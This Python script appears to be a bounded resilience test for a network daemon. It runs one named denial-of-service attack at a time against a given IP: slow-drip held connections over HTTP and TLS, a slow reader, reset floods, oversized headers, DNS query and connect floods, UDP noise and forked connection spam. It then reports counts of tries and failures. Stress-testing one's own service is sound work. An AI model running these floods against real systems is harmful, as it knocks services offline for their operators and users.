"""One attack on the daemon, for some seconds and with a bounded number of everything."""
import os, struct, sys, time
from socket import *

name, far4, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
end = time.monotonic() + seconds
held, tried, failed = [], 0, 0
HEAD = b"GET /echo/attack HTTP/1.1\r\nHost: api.test\r\n"
HELLO = bytes.fromhex("16030100c8010000c40303")


def connect(port=8080):
    global tried, failed
    tried += 1
    s = socket()
    s.settimeout(0.5)
    try:
        s.connect((far4, port))
        return s
    except OSError:
        failed += 1
        s.close()


def hold(count, first=b"", port=8080):
    """So many connections that begin so."""
    for _ in range(count):
        if time.monotonic() > end:
            break
        s = connect(port)
        if s:
            held.append(s)
            if first:
                say(s, first)


def say(s, data):
    global failed
    try:
        s.send(data)
    except OSError:
        failed += 1


def drip(byte):
    """A byte on each now and then."""
    while time.monotonic() < end:
        for s in held:
            say(s, byte)
        time.sleep(0.5)


def question(i):
    labels = b"".join(bytes([len(label)]) + label for label in (b"n%d" % i, b"many", b"test"))
    return struct.pack("!6H", i & 0xFFFF, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)


def flood(work, most):
    global tried, failed
    for i in range(most):
        if time.monotonic() > end:
            break
        tried += 1
        try:
            work(i)
        except OSError:
            failed += 1


def refused(i):
    with socket(AF_INET, SOCK_DGRAM) as s:
        for _ in range(200):
            try:
                s.sendto(b"x", (far4, 9999))
            except OSError:
                pass


def reset(i):
    s = socket()
    s.setsockopt(SOL_SOCKET, SO_LINGER, struct.pack("ii", 1, 0))
    s.setblocking(False)
    s.connect_ex((far4, 8080))
    s.close()


def huge(i):
    with create_connection((far4, 8080), 0.5) as s:
        s.sendall(HEAD + b"".join(b"x-%d: " % n + b"y" * 4000 + b"\r\n" for n in range(64)))
        s.recv(100)


def dns_connect(i):
    create_connection((far4, 53), 0.5).close()


if name == "idle":
    hold(1500)
    drip(b"")
elif name == "hello":
    hold(300, HELLO, 8443)
    drip(b"\0")
elif name == "head":
    hold(300, HEAD)
    drip(b"x")
elif name == "body":
    hold(300, b"POST /echo/attack HTTP/1.1\r\nHost: api.test\r\nContent-Length: 1000000\r\n\r\n")
    drip(b"x")
elif name == "reader":
    hold(60, b"GET /big?n=20000000 HTTP/1.1\r\nHost: api.test\r\n\r\n")
    time.sleep(max(0, end - time.monotonic()))
elif name == "resets":
    flood(reset, 5000)
elif name == "huge":
    flood(huge, 1000)
elif name == "names":
    with socket(AF_INET, SOCK_DGRAM) as s:
        s.setblocking(False)
        flood(lambda i: s.sendto(question(i), (far4, 53)), 20000)
elif name == "dns-tcp":
    flood(dns_connect, 500)
elif name == "refused":
    flood(refused, 500)
elif name == "forks":
    children = 0
    while time.monotonic() < end and tried < 2000:
        tried += 1
        if os.fork() == 0:
            connect()
            os._exit(0)
        children += 1
        if children >= 50:
            os.wait()
            children -= 1
    while children:
        os.wait()
        children -= 1
else:
    sys.exit("no such attack")
print(tried, failed)
